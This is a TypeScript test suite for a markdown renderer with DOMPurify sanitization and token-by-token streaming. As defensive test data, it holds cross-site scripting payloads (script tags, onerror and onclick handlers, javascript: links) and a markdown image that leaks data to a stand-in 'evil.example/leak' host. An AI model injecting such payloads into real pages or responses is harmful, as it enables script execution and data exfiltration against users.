import DOMPurify from 'dompurify'
import { describe, expect, it } from 'vitest'
import { isPlainHtml, markdownToHtml, renderMarkdown } from './markdown-render.ts'
import { answerTokens } from './markdown-sample.ts'
import { MarkdownStream } from './markdown-stream.ts'

function streamInto(tokens: string[]): { element: HTMLElement; stream: MarkdownStream } {
  const element = document.createElement('div')
  const stream = new MarkdownStream(element)
  let text = ''
  for (const token of tokens) {
    text += token
    stream.update(text)
  }
  return { element, stream }
}

describe('renderMarkdown', () => {
  it('renders headings, lists, tables and highlighted code', () => {
    const html = renderMarkdown(
      '## Steps\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = "y"\n```\n',
    )
    const element = document.createElement('div')
    element.innerHTML = html
    expect(element.querySelector('h2')?.textContent).toBe('Steps')
    expect(element.querySelectorAll('ol > li')).toHaveLength(2)
    expect(element.querySelector('table td')?.textContent).toBe('1')
    expect(element.querySelector('pre code .hljs-keyword')?.textContent).toBe('const')
    expect(element.querySelector('pre code .hljs-string')?.textContent).toBe('"y"')
  })

  it('passes plain prose, lists and emphasis as markdown-it wrote them, anything with an attribute through DOMPurify', () => {
    const plain =
      '## Title\n\nSome *text* with **bold**, `code` and a < b & c > d.\n\n- one\n- two\n\n> quoted\n'
    expect(isPlainHtml(markdownToHtml(plain))).toBe(true)
    // What DOMPurify would have made of it, to the character.
    expect(renderMarkdown(plain)).toBe(DOMPurify(window).sanitize(markdownToHtml(plain)))
    for (const attributed of ['[a](https://example.com)', '3. three', '| a |\n|--:|\n| 1 |', '```ts\nx\n```'])
      expect(isPlainHtml(markdownToHtml(attributed))).toBe(false)
    for (const html of [
      '<p onclick="x">a</p>',
      '<img src=x>',
      '<script>alert(1)</script>',
      '<a href="javascript:x">a</a>',
    ])
      expect(isPlainHtml(html)).toBe(false)
  })

  it('shows raw HTML as text and runs nothing', () => {
    const element = document.createElement('div')
    element.innerHTML = renderMarkdown(
      'Hi <script>alert(1)</script> <img src=x onerror="alert(2)"> [x](javascript:alert(3)) ' +
        '<a href="https://evil.example" onclick="alert(4)">a</a>',
    )
    expect(element.querySelector('script, img, [onerror], [onclick]')).toBeNull()
    expect(element.textContent).toContain('<script>alert(1)</script>')
    for (const link of element.querySelectorAll('a'))
      expect(link.getAttribute('href')).not.toMatch(/^javascript:/i)
  })

  it('shows images as links and never loads them', () => {
    const element = document.createElement('div')
    element.innerHTML = renderMarkdown(
      '![secret data](https://evil.example/leak?q=1&r=2) ![](javascript:alert(1))',
    )
    expect(element.querySelector('img')).toBeNull()
    const links = [...element.querySelectorAll('a')]
    expect(links[0]!.getAttribute('href')).toBe('https://evil.example/leak?q=1&r=2')
    expect(links[0]!.textContent).toBe('image: secret data')
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer')
    for (const link of links) expect(link.getAttribute('href')).not.toMatch(/^javascript:/i)
  })

  it('opens links in a new tab with rel="noopener noreferrer"', () => {
    const element = document.createElement('div')
    element.innerHTML = renderMarkdown('See [docs](https://example.com/a) and https://example.org.')
    const links = [...element.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.com/a',
      'https://example.org',
    ])
    for (const link of links) {
      expect(link.getAttribute('rel')).toBe('noopener noreferrer')
      expect(link.getAttribute('target')).toBe('_blank')
    }
  })
})

describe('MarkdownStream', () => {
  it('shows the same document streamed token by token as rendered at once', () => {
    const tokens = answerTokens(300)
    const { element } = streamInto(tokens)
    const whole = document.createElement('div')
    whole.innerHTML = renderMarkdown(tokens.join(''))
    expect(element.querySelectorAll('h2')).toHaveLength(whole.querySelectorAll('h2').length)
    expect(element.querySelectorAll('pre')).toHaveLength(whole.querySelectorAll('pre').length)
    expect(element.textContent?.replace(/\s+/g, ' ').trim()).toBe(
      whole.textContent?.replace(/\s+/g, ' ').trim(),
    )
  }, 60_000)

  it('starts over when the text does not continue (a retry)', () => {
    const element = document.createElement('div')
    const stream = new MarkdownStream(element)
    stream.update('# First attempt\n\nSome text')
    stream.update('Second')
    expect(element.textContent?.trim()).toBe('Second')
  })

  it('costs as much per token at the end of a 20,000-token answer as at its start (within 2×)', () => {
    const tokens = answerTokens(20_000)
    const element = document.createElement('div')
    // The parser without the sanitizer: DOMPurify in jsdom is slow, and it only sees the same blocks.
    const stream = new MarkdownStream(element, markdownToHtml)
    let text = ''
    const costs: Array<{ rendered: number; time: number }> = []
    for (const token of tokens) {
      text += token
      const rendered = stream.work.rendered
      const started = performance.now()
      stream.update(text)
      costs.push({ rendered: stream.work.rendered - rendered, time: performance.now() - started })
    }
    const sum = (slice: typeof costs, key: 'rendered' | 'time') =>
      slice.reduce((total, cost) => total + cost[key], 0)
    const first = costs.slice(0, 1000)
    const last = costs.slice(-1000)
    // The work done (characters handed to the renderer) is what must stay flat; the time ratio is
    // reported, since wall time on a shared machine is noise.
    const workRatio = sum(last, 'rendered') / sum(first, 'rendered')
    const timeRatio = sum(last, 'time') / sum(first, 'time')
    console.info(
      `[markdown cost] work ratio last/first 1,000 tokens ${workRatio.toFixed(2)}, time ratio ${timeRatio.toFixed(2)}`,
    )
    expect(workRatio).toBeLessThan(2)
    expect(workRatio).toBeGreaterThan(0.5)
    expect(element.querySelectorAll('h2').length).toBeGreaterThan(100)
  }, 120_000)
})
